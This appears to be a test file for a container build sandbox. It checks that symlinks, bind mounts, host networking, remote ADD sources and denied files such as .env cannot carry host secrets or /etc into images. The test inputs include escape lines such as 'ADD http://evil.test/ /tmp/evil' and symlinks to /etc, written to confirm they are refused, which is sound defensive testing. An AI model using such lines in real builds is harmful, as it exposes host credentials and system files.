/** The build context is hostile, and contains files that no sandbox may see. */
import { expect } from 'bun:test'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { everyEngine } from '../engines/every-engine.ts'
import { Workshop } from './workshop.ts'

const onEachEngine = everyEngine(['podman', 'docker'], { podman: 'in turn' })

const ON_DEFAULT = 'ARG PEN_BASE\nFROM $PEN_BASE\n'

onEachEngine('P1 no link in the project brings a file of the host into an image', async engine => {
  using shop = new Workshop(engine)
  const secret = shop.box.file(join(shop.box.home, 'secret/key'), 'secret of the host\n')
  shop.box.file('src/plain', 'plain\n')
  shop.box.host(
    `ln -s ${secret} src/file; ln -s ../../secret src/directory; ln -s /etc src/etc; ln -s plain src/inner`,
  )
  shop.dockerfile(`${ON_DEFAULT}COPY src /copied\n`)
  const built = shop.agreeAndBuild()
  // Links that stay within are links in the image, too.
  const said = shop.inside(
    built,
    'cd /copied; cat plain inner; cat file directory/key 2>&1; grep -c "" etc/hostname; grep -rs "secret of" / --include=key; true',
  )
  expect(said).toContain('plain\nplain\n')
  expect(said).not.toContain('secret of the host')
  expect(said).toContain('No such file')
})

for (const path of ['file', 'directory/key', 'etc/passwd'])
  onEachEngine(`P1 a COPY through the link to ${path} finds nothing of the host`, async engine => {
    using shop = new Workshop(engine)
    const secret = shop.box.file(join(shop.box.home, 'secret/key'), 'secret of the host\n')
    shop.box.host(`ln -s ${secret} file; ln -s ${shop.box.home}/secret directory; ln -s /etc etc`)
    shop.dockerfile(`FROM scratch\nCOPY ${path} /copied\n`)
    const copied = shop.agreeAndBuild()
    expect([copied.code, copied.out]).toEqual([125, ''])
    expect(copied.err).toContain('skipped links that lead out of the build context: ')
  })

onEachEngine(
  'P1 P6 instructions by which engines leave a build are refused before pen asks',
  async engine => {
    using shop = new Workshop(engine)
    for (const line of [
      'RUN --mount=type=bind,source=etc,target=/mnt/etc cp -r /mnt/etc /tmp/etc',
      'RUN --network=host true',
      'ADD http://evil.test/ /tmp/evil',
    ]) {
      shop.dockerfile(`${ON_DEFAULT}${line}\n`)
      const refused = shop.build()
      expect([line, refused.code, refused.out]).toEqual([line, 2, ''])
      expect(refused.err).toContain('is not built')
    }
  },
)

onEachEngine('P3 denied files are not in an image; the rest of the project is', async engine => {
  using shop = new Workshop(engine)
  shop.box.file('.env', 'TOKEN=secret\n')
  shop.box.file('secrets/deep/key', 'secret\n')
  shop.box.file('code/main.c', 'int main;\n')
  shop.box.file('run.sh', '#!/bin/sh\n', 0o755)
  shop.configure({ profile: 'coding', files: { deny: ['.env*', 'secrets/'] } })
  shop.dockerfile(`${ON_DEFAULT}COPY . /copied\n`)
  const built = shop.agreeAndBuild()
  expect(built.err).toContain('skipped files that the policy denies: ')
  expect(built.err).toContain('.env')
  expect(
    shop.inside(built, 'cd /copied; find . -type f | sort; stat -c %a run.sh').trim().split('\n'),
  ).toEqual(['./.pen/Dockerfile', './code/main.c', './run.sh', '755'])
})

everyEngine(['podman'], { podman: 'in turn' })(
  'P2 a context outside of the project is refused',
  async engine => {
    using shop = new Workshop(engine)
    mkdirSync(join(shop.box.home, 'elsewhere'))
    writeFileSync(join(shop.box.home, 'elsewhere/file'), '')
    shop.configure({ image: { dockerfile: './.pen/Dockerfile', context: '../elsewhere' } })
    shop.dockerfile('FROM scratch\nCOPY file /file\n')
    const refused = shop.agreeAndBuild()
    expect([refused.code, refused.out]).toEqual([2, ''])
    expect(refused.err).toContain('is outside of the project')
  },
)
